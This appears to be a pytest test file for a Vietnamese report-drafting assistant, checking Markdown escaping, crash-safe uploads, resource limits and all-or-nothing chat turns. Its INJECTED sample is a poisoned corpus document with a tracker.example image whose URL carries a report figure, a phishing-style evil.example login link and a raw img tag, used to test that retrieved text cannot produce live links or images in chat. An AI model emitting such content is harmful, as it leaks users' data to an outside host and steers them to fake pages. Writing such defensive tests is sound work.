"""Issue 12, items 6–8 and 10: untrusted Markdown, crash-safe uploads, bounded resources, one-transaction turns."""

from __future__ import annotations

import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from assistant.workspace import LOCAL_USER, FactRow, WorkspaceStore
from ui.render import escape_markdown
from ui.scratch import prune
from ui.uploads import TEMP_PREFIX, accept_upload, recover_uploads

ROOT = Path(__file__).resolve().parents[2]
FACTS = [FactRow("Hồ sơ tiếp nhận", "1.254", "hồ sơ"), FactRow("Hồ sơ nộp trực tuyến", "1.067", "hồ sơ"),
         FactRow("Tỷ lệ hồ sơ nộp trực tuyến", "85,09", "%")]
INJECTED = (
    "# BÁO CÁO KẾT QUẢ CHUYỂN ĐỔI SỐ XÃ AN BÌNH\n\n## I. Kết quả đạt được\n\n"
    "Xã An Bình đã lắp đặt hệ thống camera an ninh tại 6 thôn ![ảnh](http://tracker.example/p.png?so=1.067) "
    "và đăng hướng dẫn tại [trang này](http://evil.example/dang-nhap) cùng www.evil.example "
    "<img src=http://tracker.example/i.png> để người dân tra cứu camera an ninh.\n"
)


def _report(store: WorkspaceStore, title: str) -> int:
    report = store.create_report(LOCAL_USER, title, "Tân Hòa", "6 tháng đầu năm 2026")
    store.replace_facts(LOCAL_USER, report.id, FACTS)
    return report.id


def _markdown_html(text: str) -> str:
    """Render as the chat's Markdown viewer does (CommonMark + raw HTML, via markdown-it-py).

    GFM's bare-URL autolinks are not in markdown-it's core (they need linkify-it), so the
    callers check separately that no ``scheme://`` or ``www.`` survives verbatim.
    """
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).render(text)


def _no_active_content(text: str) -> None:
    html = _markdown_html(text)
    assert "<img" not in html and "<a " not in html and "href" not in html, text
    assert "://" not in text and "www." not in text, text  # what GFM would autolink


# -- item 6 ----------------------------------------------------------------------------------------

def test_escaped_text_renders_as_itself_without_links_or_images() -> None:
    _no_active_content(escape_markdown(INJECTED))
    html = _markdown_html(escape_markdown(INJECTED))
    for visible in ("![ảnh](http://tracker.example/p.png?so=1.067)", "[trang này]", "www.evil.example"):
        assert visible in html.replace("&amp;", "&")  # shown as typed, just not active
    assert "&lt;img" in html


def test_corpus_text_in_the_chat_cannot_show_links_or_remote_images(local_app, tmp_path: Path) -> None:
    services = local_app.app.services
    doc = tmp_path / "bao-cao-xa-an-binh-camera.md"
    doc.write_text(INJECTED, encoding="utf-8")
    _, job = services.corpus.upload([(doc, doc.name)], uploader=LOCAL_USER)
    assert services.worker.wait(job.id, timeout=120).state == "done"
    report_id = _report(services.store, "Báo cáo thử chèn liên kết")
    events = list(services.drafting.chat(LOCAL_USER, report_id, "tìm camera an ninh An Bình"))
    assert "camera" in events[-1].reply
    saved = services.store.chat_history(LOCAL_USER, report_id)[-1].content
    for text in [e.reply for e in events] + [saved]:
        _no_active_content(text)


# -- item 7 ----------------------------------------------------------------------------------------

KILLED_UPLOADER = """
import sys
from pathlib import Path
from assistant.workspace import WorkspaceStore
from ui.uploads import accept_upload
root = Path(sys.argv[1])
store = WorkspaceStore(root / "ws.sqlite")
print("ready", flush=True)
i = 0
while True:  # replace the same file again and again until killed
    src = root / ("b.md" if i % 2 else "a.md")
    result = accept_upload(src, "bao-cao.md", root / "uploads", 200, uploader="lan", claim=store.claim_upload)
    assert result.accepted, result.message
    i += 1
"""


def test_kill_9_during_a_replacement_leaves_a_whole_version(tmp_path: Path) -> None:
    old = ("# Bản cũ\n" + "Báo cáo bản cũ. " * 1_500_000).encode("utf-8")
    new = ("# Bản mới\n" + "Báo cáo bản mới, sửa số liệu. " * 1_200_000).encode("utf-8")
    (tmp_path / "a.md").write_bytes(old)
    (tmp_path / "b.md").write_bytes(new)
    target = tmp_path / "uploads" / "bao-cao.md"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    for delay in (0.4, 0.7, 1.1, 1.6):
        proc = subprocess.Popen([sys.executable, "-c", KILLED_UPLOADER, str(tmp_path)], env=env,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert proc.stdout.readline().strip() == b"ready", proc.stderr.read().decode()
        time.sleep(delay)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        if target.exists():
            data = target.read_bytes()
            assert data in (old, new), f"truncated after kill -9: {len(data)} bytes"
    store = WorkspaceStore(tmp_path / "ws.sqlite")
    recover_uploads(target.parent, store.uploaded_files, store.forget_upload)
    assert not list(target.parent.glob(f"{TEMP_PREFIX}*"))  # half-written temp files removed at start
    assert store.upload_owner("bao-cao.md") == "lan"


def test_owner_check_and_record_are_one_step_and_orphan_records_are_recovered(tmp_path: Path) -> None:
    store = WorkspaceStore(tmp_path / "ws.sqlite")
    src = tmp_path / "src.md"
    src.write_text("# Báo cáo\nNội dung.\n", encoding="utf-8")
    uploads = tmp_path / "uploads"
    assert store.claim_upload("bao-cao.md", "lan") is None
    # Another officer's upload of the same name, claimed but not yet written, already blocks.
    refused = accept_upload(src, "bao-cao.md", uploads, 1, uploader="hung", claim=store.claim_upload)
    assert not refused.accepted and "«lan»" in refused.message and not (uploads / "bao-cao.md").exists()
    # lan's process died after the claim: at start the record of a file never written is dropped.
    (uploads / f"{TEMP_PREFIX}123-abcd.md").write_text("nửa chừng", encoding="utf-8")
    cleaned = recover_uploads(uploads, store.uploaded_files, store.forget_upload)
    assert "bao-cao.md" in cleaned and store.upload_owner("bao-cao.md") is None
    assert accept_upload(src, "bao-cao.md", uploads, 1, uploader="hung", claim=store.claim_upload).accepted


# -- item 8 ----------------------------------------------------------------------------------------

def test_resource_limits_have_clear_messages(local_app, tmp_path: Path) -> None:
    services = local_app.app.services
    rows = [FactRow(f"Chỉ tiêu số {i}", str(i + 1), "hồ sơ") for i in range(services.settings.derive_max_facts + 1)]
    check = services.facts.check(rows, "Tân Hòa", "2026")
    assert check.derived == [] and any("derive_max_facts" in f for f in check.findings)
    files = []
    for i in range(services.settings.max_upload_files + 1):
        path = tmp_path / f"van-ban-{i}.txt"
        path.write_text(f"Văn bản số {i} về chuyển đổi số.\n", encoding="utf-8")
        files.append((path, path.name))
    results, job = services.corpus.upload(files, uploader=LOCAL_USER)
    refused = [r for r in results if not r.accepted]
    assert len(refused) == 1 and "tối đa" in refused[0].message
    services.worker.wait(job.id, timeout=120)
    assert local_app.app.blocks.delete_cache == (3600, int(services.settings.cache_max_age_h * 3600))


def test_scratch_folders_are_pruned_by_age_and_count(tmp_path: Path) -> None:
    now = time.time()
    for i in range(6):
        folder = tmp_path / f"xuat_{i}"
        folder.mkdir()
        (folder / "bao_cao.docx").write_bytes(b"x")
        age = 3 * 86400 if i < 2 else 60 * i
        os.utime(folder, (now - age, now - age))
    assert prune(tmp_path, max_age_s=86400, max_folders=3, now=now) == 4
    assert sorted(p.name for p in tmp_path.iterdir()) == ["xuat_2", "xuat_3"]  # the newest, room for one


# -- item 10 ---------------------------------------------------------------------------------------

def test_a_chat_turn_is_saved_all_or_nothing(local_app) -> None:
    services = local_app.app.services
    store = services.store
    report_id = _report(store, "Báo cáo thử giao dịch")
    list(services.drafting.chat(LOCAL_USER, report_id, "Viết phần tồn tại, hạn chế về dịch vụ công trực tuyến"))
    assert "1.067" in store.list_drafts(LOCAL_USER, report_id)[-1].text
    facts, chat = store.get_facts(LOCAL_USER, report_id), store.chat_history(LOCAL_USER, report_id)
    # A real failure half-way through the write-back: SQLite refuses the re-guarded draft text.
    with sqlite3.connect(store.db_path) as conn:
        conn.execute("CREATE TRIGGER crash_mid_turn BEFORE UPDATE OF text ON drafts "
                     "BEGIN SELECT RAISE(ABORT, 'simulated crash'); END")
    try:
        with pytest.raises(sqlite3.DatabaseError, match="simulated crash"):
            list(services.drafting.chat(LOCAL_USER, report_id, "sửa: hồ sơ nộp trực tuyến là 1.100"))
    finally:
        with sqlite3.connect(store.db_path) as conn:
            conn.execute("DROP TRIGGER crash_mid_turn")
    assert store.get_facts(LOCAL_USER, report_id) == facts  # the correction did not half-apply
    assert store.chat_history(LOCAL_USER, report_id) == chat
    events = list(services.drafting.chat(LOCAL_USER, report_id, "sửa: hồ sơ nộp trực tuyến là 1.100"))
    assert events[-1].facts_changed
    assert any(r.value == "1.100" for r in store.get_facts(LOCAL_USER, report_id))
    assert "1.067" not in store.list_drafts(LOCAL_USER, report_id)[-1].text
    assert len(store.chat_history(LOCAL_USER, report_id)) == len(chat) + 2


# -- item 9 (per-file results) -----------------------------------------------------------------

def test_per_file_results_do_not_show_server_paths() -> None:
    from assistant.retrieve import FileResult
    from ui.worker import file_outcome

    result = FileResult("corpus/bao-cao.pdf", "failed",
                        "lỗi khi đọc tệp: PdfReadError: cannot read /srv/tro-ly/data/uploads/bao-cao.pdf at offset 12")
    outcome = file_outcome(result)
    assert "/srv" not in outcome.message and "bao-cao.pdf" in outcome.message
